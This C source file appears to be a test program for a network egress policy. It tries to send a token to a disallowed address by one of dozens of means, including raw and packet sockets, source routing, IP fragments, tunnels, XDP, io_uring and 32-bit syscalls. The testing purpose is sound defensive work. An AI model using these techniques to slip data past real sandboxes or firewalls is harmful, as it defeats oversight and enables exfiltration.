/* One attempt to get a token out through one kind of socket: sockets KIND V4 V6 TOKEN [ALLOWED].
 * V4 and V6 are outside the policy, ALLOWED (IPv4, port 9) is inside it. */
#include "common.h"
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <linux/if_xdp.h>
#include <linux/io_uring.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/ip_icmp.h>
#include <netinet/tcp.h>
#include <netinet/udp.h>
#include <sys/ioctl.h>
#include <sys/sendfile.h>

#ifndef SOL_XDP
#define SOL_XDP 283
#endif
#define A(x) ((struct sockaddr *)&(x)), sizeof(x)

static struct sockaddr_in to, allowed;
static struct sockaddr_in6 to6;
static const char *token;

static void stream(int family, int protocol, struct sockaddr *peer, socklen_t length)
{
	int fd = sock(family, SOCK_STREAM, protocol);
	must(connect(fd, peer, length), "connect");
	say(fd, token);
}

static void tcp(void) { stream(AF_INET, 0, A(to)); }
static void tcp6(void) { stream(AF_INET6, 0, A(to6)); }
static void mptcp(void) { stream(AF_INET, 262, A(to)); }
static void sctp(void) { stream(AF_INET, IPPROTO_SCTP, A(to)); }

static struct sockaddr_in6 mapped_address(void)
{
	struct sockaddr_in6 a = { .sin6_family = AF_INET6, .sin6_port = to.sin_port };
	memset(a.sin6_addr.s6_addr + 10, 0xff, 2);
	memcpy(a.sin6_addr.s6_addr + 12, &to.sin_addr, 4);
	return a;
}

static void mapped(void)
{
	struct sockaddr_in6 a = mapped_address();
	stream(AF_INET6, 0, A(a));
}

static void udp_mapped(void)
{
	struct sockaddr_in6 a = mapped_address();
	must(sendto(sock(AF_INET6, SOCK_DGRAM, 0), token, strlen(token), 0, A(a)), "sendto");
}

static void dccp(void)
{
	int fd = must(socket(AF_INET, 6 /* SOCK_DCCP */, 33), "socket");
	must(connect(fd, A(to)), "connect");
	say(fd, token);
}

static void fastopen(void)
{
	must(sendto(sock(AF_INET, SOCK_STREAM, 0), token, strlen(token), MSG_FASTOPEN, A(to)), "sendto");
}

static void fastopen_connect(void)
{
	int fd = sock(AF_INET, SOCK_STREAM, 0), on = 1;
	must(setsockopt(fd, IPPROTO_TCP, TCP_FASTOPEN_CONNECT, &on, sizeof on), "TCP_FASTOPEN_CONNECT");
	must(connect(fd, A(to)), "connect");
	say(fd, token);
}

static void tcp_sendfile(void)
{
	int fd = sock(AF_INET, SOCK_STREAM, 0), file = must(memfd_create("t", 0), "first: memfd_create");
	must(write(file, token, strlen(token)), "first: write");
	must(connect(fd, A(to)), "connect");
	off_t at = 0;
	must(sendfile(fd, file, &at, strlen(token)), "sendfile");
}

static void tcp_splice(void)
{
	int fd = sock(AF_INET, SOCK_STREAM, 0), ends[2];
	must(pipe(ends), "first: pipe");
	must(write(ends[1], token, strlen(token)), "first: write");
	must(connect(fd, A(to)), "connect");
	must(splice(ends[0], NULL, fd, NULL, strlen(token), 0), "splice");
}

/* A connection to where it may go, undone, and made again on the same socket. */
static void again(int type)
{
	struct sockaddr none = { .sa_family = AF_UNSPEC };
	int fd = sock(AF_INET, type, 0);
	must(connect(fd, A(allowed)), "first: connect to the allowed address");
	must(send(fd, "x", 1, MSG_NOSIGNAL), "first: send to the allowed address");
	must(connect(fd, &none, sizeof none), "first: connect(AF_UNSPEC)");
	must(connect(fd, A(to)), "connect");
	say(fd, token);
}

static void tcp_unspec(void) { again(SOCK_STREAM); }
static void udp_unspec(void) { again(SOCK_DGRAM); }

static void udp_connect(void)
{
	int fd = sock(AF_INET, SOCK_DGRAM, 0);
	must(connect(fd, A(to)), "connect");
	must(write(fd, token, strlen(token)), "write");
}

static void udp_sendto(void)
{
	must(sendto(sock(AF_INET, SOCK_DGRAM, 0), token, strlen(token), 0, A(to)), "sendto");
}

static void udp6(void)
{
	must(sendto(sock(AF_INET6, SOCK_DGRAM, 0), token, strlen(token), 0, A(to6)), "sendto");
}

/* Connected to where it may go, and sent elsewhere all the same. */
static void udp_other_peer(void)
{
	int fd = sock(AF_INET, SOCK_DGRAM, 0);
	must(connect(fd, A(allowed)), "first: connect to the allowed address");
	must(send(fd, "x", 1, 0), "first: send to the allowed address");
	must(sendto(fd, token, strlen(token), 0, A(to)), "sendto");
}

static void message(int family, void *peer, socklen_t length, void *control, size_t size)
{
	struct iovec part = { (void *)token, strlen(token) };
	struct msghdr m = { .msg_name = peer, .msg_namelen = length, .msg_iov = &part, .msg_iovlen = 1,
			    .msg_control = control, .msg_controllen = size };
	must(sendmsg(sock(family, SOCK_DGRAM, 0), &m, 0), "sendmsg");
}

static void udp_sendmsg(void) { message(AF_INET, A(to), NULL, 0); }

static void udp_sendmmsg(void)
{
	struct iovec first = { "x", 1 }, second = { (void *)token, strlen(token) };
	struct mmsghdr m[2] = {
		{ .msg_hdr = { .msg_name = &allowed, .msg_namelen = sizeof allowed, .msg_iov = &first, .msg_iovlen = 1 } },
		{ .msg_hdr = { .msg_name = &to, .msg_namelen = sizeof to, .msg_iov = &second, .msg_iovlen = 1 } },
	};
	if (must(sendmmsg(sock(AF_INET, SOCK_DGRAM, 0), m, 2, 0), "sendmmsg") < 2)
		errno = EPERM, ends("the second of sendmmsg");
}

/* More than a packet holds: IP fragments, of which only the first has ports. */
static void udp_fragments(void)
{
	char large[20000];
	for (size_t i = 0; i < sizeof large; i++)
		large[i] = token[i % strlen(token)];
	must(sendto(sock(AF_INET, SOCK_DGRAM, 0), large, sizeof large, 0, A(to)), "sendto");
}

/* A source route: the program names an allowed address, the packet goes to the first hop. */
static int routed(int type)
{
	unsigned char option[8] = { IPOPT_LSRR, 7, 4 };
	int fd = sock(AF_INET, type, 0);
	memcpy(option + 3, &to.sin_addr, 4);
	must(setsockopt(fd, IPPROTO_IP, IP_OPTIONS, option, sizeof option), "IP_OPTIONS");
	return fd;
}

static void udp_source_route(void)
{
	must(sendto(routed(SOCK_DGRAM), token, strlen(token), 0, A(allowed)), "sendto");
}

static void udp_source_route_connected(void)
{
	int fd = routed(SOCK_DGRAM);
	must(connect(fd, A(allowed)), "connect");
	must(write(fd, token, strlen(token)), "write");
}

static void tcp_source_route(void)
{
	int fd = routed(SOCK_STREAM);
	/* The far end answers no routed packet: the first one of the handshake is what arrives. */
	if (connect(fd, A(allowed)) < 0 && errno != EAGAIN && errno != EINPROGRESS)
		ends("connect");
}

/* The same by a control message of one datagram. */
static void udp_source_route_message(void)
{
	char control[CMSG_SPACE(8)] = { 0 };
	struct cmsghdr *c = (struct cmsghdr *)control;
	unsigned char option[8] = { IPOPT_LSRR, 7, 4 };
	memcpy(option + 3, &to.sin_addr, 4);
	*c = (struct cmsghdr){ .cmsg_level = IPPROTO_IP, .cmsg_type = IP_RETOPTS, .cmsg_len = CMSG_LEN(8) };
	memcpy(CMSG_DATA(c), option, 8);
	message(AF_INET, A(allowed), control, sizeof control);
}

/* IPv6 segment routing: the final address is in the list, the packet goes to the first segment. */
static void udp6_segments(void)
{
	int fd = sock(AF_INET6, SOCK_DGRAM, 0);
	struct sockaddr_in6 final = v6("2001:db8::10", PORT);
	struct {
		unsigned char next, length, type, left, last, flags;
		uint16_t tag;
		struct in6_addr segments[2];
	} route = { .length = 4, .type = 4, .left = 1, .last = 1, .segments = { final.sin6_addr, to6.sin6_addr } };
	must(setsockopt(fd, IPPROTO_IPV6, IPV6_RTHDR, &route, sizeof route), "IPV6_RTHDR");
	must(sendto(fd, token, strlen(token), 0, A(final)), "sendto");
}

static void icmp(int type)
{
	struct {
		struct icmphdr head;
		char data[40];
	} echo = { .head = { .type = ICMP_ECHO, .un.echo = { 0x1234, 1 } } };
	strncpy(echo.data, token, sizeof echo.data - 1);
	echo.head.checksum = checksum(&echo, sizeof echo);
	must(sendto(sock(AF_INET, type, IPPROTO_ICMP), &echo, sizeof echo, 0, A(to)), "sendto");
}

static void icmp_raw(void) { icmp(SOCK_RAW); }
static void ping(void) { icmp(SOCK_DGRAM); }

static void ping6(void)
{
	char echo[48] = { (char)128 };
	strncpy(echo + 8, token, sizeof echo - 9);
	must(sendto(sock(AF_INET6, SOCK_DGRAM, IPPROTO_ICMPV6), echo, sizeof echo, 0, A(to6)), "sendto");
}

static void raw_protocol(int number)
{
	must(sendto(sock(AF_INET, SOCK_RAW, number), token, strlen(token), 0, A(to)), "sendto");
}

static void raw_other(void) { raw_protocol(253); }

static size_t datagram(char *buffer, const char *source, int protocol)
{
	struct iphdr *ip = (struct iphdr *)buffer;
	struct udphdr *udp = (struct udphdr *)(ip + 1);
	size_t length = sizeof *ip + sizeof *udp + strlen(token);
	*ip = (struct iphdr){ .version = 4, .ihl = 5, .ttl = 64, .protocol = protocol, .tot_len = htons(length), .id = 1 };
	ip->saddr = inet_addr(source);
	ip->daddr = to.sin_addr.s_addr;
	ip->check = checksum(ip, sizeof *ip);
	*udp = (struct udphdr){ .source = htons(40000), .dest = htons(PORT), .len = htons(sizeof *udp + strlen(token)) };
	memcpy(udp + 1, token, strlen(token));
	return length;
}

static void raw_header(void)
{
	char buffer[256];
	size_t length = datagram(buffer, "0.0.0.0", IPPROTO_UDP);
	must(sendto(sock(AF_INET, SOCK_RAW, IPPROTO_RAW), buffer, length, 0, A(to)), "sendto");
}

static void raw_included(void)
{
	char buffer[256];
	size_t length = datagram(buffer, "0.0.0.0", IPPROTO_UDP);
	int fd = sock(AF_INET, SOCK_RAW, IPPROTO_UDP), on = 1;
	must(setsockopt(fd, IPPROTO_IP, IP_HDRINCL, &on, sizeof on), "IP_HDRINCL");
	must(sendto(fd, buffer, length, 0, A(to)), "sendto");
}

/* A second fragment, whose header has no ports at all. */
static void raw_fragment(void)
{
	char buffer[256];
	size_t length = datagram(buffer, "0.0.0.0", IPPROTO_UDP);
	((struct iphdr *)buffer)->frag_off = htons(100);
	must(sendto(sock(AF_INET, SOCK_RAW, IPPROTO_RAW), buffer, length, 0, A(to)), "sendto");
}

/* A datagram inside a datagram (protocol 4), as a tunnel would send it. */
static void raw_tunnel(void)
{
	char buffer[256];
	size_t length = datagram(buffer, "192.0.2.2", IPPROTO_UDP);
	must(sendto(sock(AF_INET, SOCK_RAW, IPPROTO_IPIP), buffer, length, 0, A(to)), "sendto");
}

static void packet(int type, int bypass)
{
	char frame[512] = { 0 };
	size_t head = type == SOCK_RAW ? ETH_HLEN : 0;
	size_t length = head + datagram(frame + head, "192.0.2.2", IPPROTO_UDP);
	struct sockaddr_ll lo = { .sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_IP), .sll_halen = 6 };
	int fd = sock(AF_PACKET, type, htons(ETH_P_IP));
	if (head)
		((struct ethhdr *)frame)->h_proto = htons(ETH_P_IP);
	lo.sll_ifindex = (int)if_nametoindex("lo");
	if (bypass)
		must(setsockopt(fd, SOL_PACKET, PACKET_QDISC_BYPASS, &bypass, sizeof bypass), "PACKET_QDISC_BYPASS");
	must(sendto(fd, frame, length, 0, A(lo)), "sendto");
}

static void packet_raw(void) { packet(SOCK_RAW, 0); }
static void packet_dgram(void) { packet(SOCK_DGRAM, 0); }
static void packet_direct(void) { packet(SOCK_RAW, 1); }

static void udplite(void)
{
	must(sendto(sock(AF_INET, SOCK_DGRAM, IPPROTO_UDPLITE), token, strlen(token), 0, A(to)), "sendto");
}

static void multicast(void)
{
	struct sockaddr_in group = v4("239.1.2.3", 9999);
	must(sendto(sock(AF_INET, SOCK_DGRAM, 0), token, strlen(token), 0, A(group)), "sendto");
}

static void multicast6(void)
{
	struct sockaddr_in6 group = v6("ff05::1234", 9999);
	int fd = sock(AF_INET6, SOCK_DGRAM, 0), lo = (int)if_nametoindex("lo");
	must(setsockopt(fd, IPPROTO_IPV6, IPV6_MULTICAST_IF, &lo, sizeof lo), "IPV6_MULTICAST_IF");
	must(sendto(fd, token, strlen(token), 0, A(group)), "sendto");
}

static void broadcast(void)
{
	struct sockaddr_in all = v4("255.255.255.255", 9999);
	int fd = sock(AF_INET, SOCK_DGRAM, 0), on = 1;
	must(setsockopt(fd, SOL_SOCKET, SO_BROADCAST, &on, sizeof on), "SO_BROADCAST");
	must(setsockopt(fd, SOL_SOCKET, SO_BINDTODEVICE, "lo", 3), "SO_BINDTODEVICE");
	must(sendto(fd, token, strlen(token), 0, A(all)), "sendto");
}

static void marked(int level, int option, const void *value, socklen_t size, const char *what)
{
	int fd = sock(AF_INET, SOCK_STREAM, 0);
	must(setsockopt(fd, level, option, value, size), what);
	must(connect(fd, A(to)), "connect");
	say(fd, token);
}

static void so_mark(void)
{
	int mark = 0x1234;
	marked(SOL_SOCKET, SO_MARK, &mark, sizeof mark, "SO_MARK");
}

static void so_device(void) { marked(SOL_SOCKET, SO_BINDTODEVICE, "lo", 3, "SO_BINDTODEVICE"); }

/* As somebody else: the lab's proxy address is the source. */
static void transparent(void)
{
	struct sockaddr_in other = v4("203.0.113.80", 0);
	int fd = sock(AF_INET, SOCK_DGRAM, 0), on = 1;
	must(setsockopt(fd, IPPROTO_IP, IP_TRANSPARENT, &on, sizeof on), "IP_TRANSPARENT");
	must(bind(fd, A(other)), "bind");
	must(sendto(fd, token, strlen(token), 0, A(to)), "sendto");
}

/* Only ever to this machine itself: the hypervisor may not be asked from a test. */
/* A frame straight to the device's queue, past the network stack (linux/if_xdp.h). */
static void xdp(void)
{
	struct xdp_umem_reg memory = { .len = 8 * 4096, .chunk_size = 4096 };
	struct sockaddr_xdp lo = { .sxdp_family = AF_XDP, .sxdp_flags = XDP_COPY, .sxdp_ifindex = if_nametoindex("lo") };
	struct xdp_mmap_offsets offsets;
	socklen_t size = sizeof offsets;
	int fd = must(socket(AF_XDP, SOCK_RAW, 0), "socket"), ring = 8;
	char *frames = mmap(NULL, memory.len, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	memory.addr = (uint64_t)frames;
	must(setsockopt(fd, SOL_XDP, XDP_UMEM_REG, &memory, sizeof memory), "XDP_UMEM_REG");
	static const int RINGS[] = { XDP_TX_RING, XDP_UMEM_FILL_RING, XDP_UMEM_COMPLETION_RING };
	for (int i = 0; i < 3; i++)
		must(setsockopt(fd, SOL_XDP, RINGS[i], &ring, sizeof ring), "an XDP ring");
	must(getsockopt(fd, SOL_XDP, XDP_MMAP_OFFSETS, &offsets, &size), "XDP_MMAP_OFFSETS");
	char *tx = mmap(NULL, offsets.tx.desc + 8 * sizeof(struct xdp_desc), PROT_READ | PROT_WRITE, MAP_SHARED, fd, XDP_PGOFF_TX_RING);
	must(bind(fd, A(lo)), "bind");
	((struct ethhdr *)frames)->h_proto = htons(ETH_P_IP);
	size_t length = ETH_HLEN + datagram(frames + ETH_HLEN, "192.0.2.2", IPPROTO_UDP);
	*(struct xdp_desc *)(tx + offsets.tx.desc) = (struct xdp_desc){ .addr = 0, .len = (uint32_t)length };
	__atomic_store_n((uint32_t *)(tx + offsets.tx.producer), 1, __ATOMIC_RELEASE);
	must(sendto(fd, NULL, 0, MSG_DONTWAIT, NULL, 0), "sendto");
}

static unsigned *ring_at(char *ring, unsigned offset) { return (unsigned *)(ring + offset); }

/* One operation through io_uring; its result. */
static long uring(int ring, struct io_uring_params *p, struct io_uring_sqe operation)
{
	static char *queue, *done;
	static struct io_uring_sqe *entries;
	if (!queue) {
		queue = mmap(NULL, p->sq_off.array + p->sq_entries * 4, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQ_RING);
		done = mmap(NULL, p->cq_off.cqes + p->cq_entries * sizeof(struct io_uring_cqe), PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_CQ_RING);
		entries = mmap(NULL, p->sq_entries * sizeof *entries, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQES);
	}
	unsigned *tail = ring_at(queue, p->sq_off.tail), at = *tail & *ring_at(queue, p->sq_off.ring_mask);
	entries[at] = operation;
	ring_at(queue, p->sq_off.array)[at] = at;
	__atomic_store_n(tail, *tail + 1, __ATOMIC_RELEASE);
	must(syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0), "io_uring_enter");
	unsigned *head = ring_at(done, p->cq_off.head), mask = *ring_at(done, p->cq_off.ring_mask);
	long result = ((struct io_uring_cqe *)(done + p->cq_off.cqes))[*head & mask].res;
	__atomic_store_n(head, *head + 1, __ATOMIC_RELEASE);
	if (result < 0)
		errno = (int)-result, ends("io_uring");
	return result;
}

static void uring_connect(void)
{
	struct io_uring_params p = { 0 };
	int ring = must(syscall(SYS_io_uring_setup, 4, &p), "io_uring_setup"), fd = sock(AF_INET, SOCK_STREAM, 0);
	uring(ring, &p, (struct io_uring_sqe){ .opcode = IORING_OP_CONNECT, .fd = fd, .addr = (uint64_t)&to, .off = sizeof to });
	uring(ring, &p, (struct io_uring_sqe){ .opcode = IORING_OP_SEND, .fd = fd, .addr = (uint64_t)token, .len = strlen(token) });
}

static void uring_sendmsg(void)
{
	struct io_uring_params p = { 0 };
	struct iovec part = { (void *)token, strlen(token) };
	struct msghdr m = { .msg_name = &to, .msg_namelen = sizeof to, .msg_iov = &part, .msg_iovlen = 1 };
	int ring = must(syscall(SYS_io_uring_setup, 4, &p), "io_uring_setup"), fd = sock(AF_INET, SOCK_DGRAM, 0);
	uring(ring, &p, (struct io_uring_sqe){ .opcode = IORING_OP_SENDMSG, .fd = fd, .addr = (uint64_t)&m, .len = 1 });
}

#ifdef __x86_64__
/* The system calls of 32-bit programs, whose numbers are others (arch/x86/entry/syscalls/syscall_32.tbl). */
static long call32(long number, long a, long b, long c)
{
	long result;
	__asm__ volatile("int $0x80" : "=a"(result) : "a"(number), "b"(a), "c"(b), "d"(c) : "memory", "r8", "r9", "r10", "r11");
	if (result < 0)
		errno = (int)-result;
	return result < 0 ? -1 : result;
}

static void abi32(void)
{
	char *low = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
	memcpy(low, &to, sizeof to);
	strcpy(low + 100, token);
	int fd = must(call32(359, AF_INET, SOCK_DGRAM, 0), "socket of 32 bits");
	must(call32(362, fd, (long)low, sizeof to), "connect of 32 bits");
	must(call32(4, fd, (long)(low + 100), (long)strlen(token)), "write of 32 bits");
}

static void abi_x32(void)
{
	int fd = must(syscall(0x40000000 | 41, AF_INET, SOCK_DGRAM, 0), "socket of x32");
	must(syscall(0x40000000 | 42, fd, &to, sizeof to), "connect of x32");
	must(syscall(0x40000000 | 1, fd, token, strlen(token)), "write of x32");
}
#else
static void abi32(void) { errno = ENOSYS, ends("another processor"); }
static void abi_x32(void) { errno = ENOSYS, ends("another processor"); }
#endif

static const struct {
	const char *name;
	void (*try)(void);
} KINDS[] = {
#define KIND(name) { #name, name }
	KIND(tcp), KIND(tcp6), KIND(mapped), KIND(mptcp), KIND(sctp), KIND(dccp), KIND(fastopen), KIND(fastopen_connect),
	KIND(tcp_sendfile), KIND(tcp_splice), KIND(tcp_unspec), KIND(udp_unspec), KIND(udp_connect), KIND(udp_sendto),
	KIND(udp6), KIND(udp_mapped), KIND(udp_other_peer), KIND(udp_sendmsg), KIND(udp_sendmmsg), KIND(udp_fragments),
	KIND(udp_source_route), KIND(udp_source_route_connected), KIND(udp_source_route_message), KIND(tcp_source_route),
	KIND(udp6_segments), KIND(icmp_raw), KIND(ping), KIND(ping6), KIND(raw_other), KIND(raw_header), KIND(raw_included),
	KIND(raw_fragment), KIND(raw_tunnel), KIND(packet_raw), KIND(packet_dgram), KIND(packet_direct), KIND(xdp), KIND(udplite),
	KIND(multicast), KIND(multicast6), KIND(broadcast), KIND(so_mark), KIND(so_device), KIND(transparent),
	KIND(uring_connect), KIND(uring_sendmsg), KIND(abi32), KIND(abi_x32),
};

int main(int count, char **words)
{
	if (count < 5)
		return 2;
	to = v4(words[2], PORT);
	to6 = v6(words[3], PORT);
	token = words[4];
	allowed = v4(count > 5 ? words[5] : "203.0.113.10", PORT);
	alarm(5);
	for (size_t i = 0; i < sizeof KINDS / sizeof *KINDS; i++)
		if (!strcmp(KINDS[i].name, words[1])) {
			KINDS[i].try();
			return 0;
		}
	return 2;
}
